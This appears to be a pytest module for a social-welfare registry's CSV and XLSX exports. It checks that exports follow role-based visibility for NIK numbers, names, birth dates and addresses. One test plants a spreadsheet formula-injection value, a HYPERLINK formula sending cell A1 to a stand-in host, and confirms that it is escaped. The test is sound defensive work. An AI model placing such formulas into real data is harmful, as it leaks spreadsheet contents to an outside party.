"""Registry exports (CSV, XLSX) follow the field-visibility table for every role that may export."""

import csv
import io
from datetime import date, datetime, time

import pytest
from python_calamine import CalamineWorkbook

from pilar.accounts.visibility import visibility_for
from pilar.identity.models import Person
from pilar.identity.nik import parse_nik
from pilar.registry.exports import export_csv, export_xlsx
from pilar.registry.models import PpksRecord
from tests.registry.test_exports import records  # noqa: F401  (the imported family)

EXPORTERS = ("admin_user", "operator", "pimpinan")


def csv_table(response) -> list[list[str]]:
    text = b"".join(part if isinstance(part, bytes) else part.encode() for part in response.streaming_content)
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def as_text(value) -> str:
    """An XLSX cell as the CSV writes it: IDs are numbers there, birth dates dates."""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == time() else f"{value:%Y-%m-%d %H:%M}"
    return value.isoformat() if isinstance(value, date) else str(value)


def xlsx_table(response, tmp_path) -> list[list[str]]:
    path = tmp_path / "export.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    sheet = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0)
    return [[as_text(c) for c in row] for row in sheet.to_python()]


@pytest.fixture
def table(request, tmp_path):
    def make(kind, queryset, user):
        if kind == "csv":
            return csv_table(export_csv(queryset, user))
        return xlsx_table(export_xlsx(queryset, user), tmp_path)

    return make


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("persona", EXPORTERS)
def test_every_exported_person_cell_is_what_the_table_lets_the_role_see(records, request, persona, kind, table):  # noqa: F811
    user = request.getfixturevalue(persona)
    header, *rows = table(kind, records, user)
    view = visibility_for(user)
    by_id = {r.pk: r for r in records.select_related("person", "household")}
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        record = by_id[int(cells["ID"])]
        assert cells["NIK"] == view.nik(record.person.nik)
        assert cells["Nama"] == view.name(record.person.name)
        assert cells.get("Tanggal Lahir", "") == (
            record.person.birth_date.isoformat() if view.birth_date(record.person.birth_date) else ""
        )
        assert cells.get("Alamat", "") == view.address(record.address)
        assert cells.get("RT", "") == view.rt_rw(record.rt)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_head_of_office_export_cannot_rebuild_a_masked_nik(records, pimpinan, kind, table):  # noqa: F811
    header, *rows = table(kind, records, pimpinan)
    assert not {"Tanggal Lahir", "Umur", "Alamat", "RT", "RW"} & set(header)
    births = {p.birth_date.isoformat() for p in Person.objects.all()}
    for row in rows:
        nik = row[header.index("NIK")]
        assert "********" in nik
        assert not births & set(row)  # no cell carries the birth date the NIK's middle encodes


def test_head_of_office_export_shows_initials_not_names(records, pimpinan, table):  # noqa: F811
    header, *rows = table("csv", records, pimpinan)
    names = {p.name for p in Person.objects.all()}
    assert all(row[header.index("Nama")] not in names and "***" in row[header.index("Nama")] for row in rows)


def test_operator_export_is_whole(records, operator, table):  # noqa: F811
    header, *rows = table("csv", records, operator)
    assert {"Tanggal Lahir", "Alamat", "RT", "RW", "No KK"} <= set(header)
    for row in rows:
        nik, born = row[header.index("NIK")], row[header.index("Tanggal Lahir")]
        assert parse_nik(nik).birth_date == date.fromisoformat(born)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exported_text_never_runs_as_a_formula(records, operator, kind, table):  # noqa: F811
    person = PpksRecord.objects.first().person
    person.name = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    person.save(update_fields=["name"])
    PpksRecord.objects.filter(person=person).update(address="@SUM(1+1)")
    header, *rows = table(kind, records, operator)
    row = next(r for r in rows if r[header.index("Nama")].startswith("'="))
    assert row[header.index("Nama")] == "'" + person.name and row[header.index("Alamat")] == "'@SUM(1+1)"
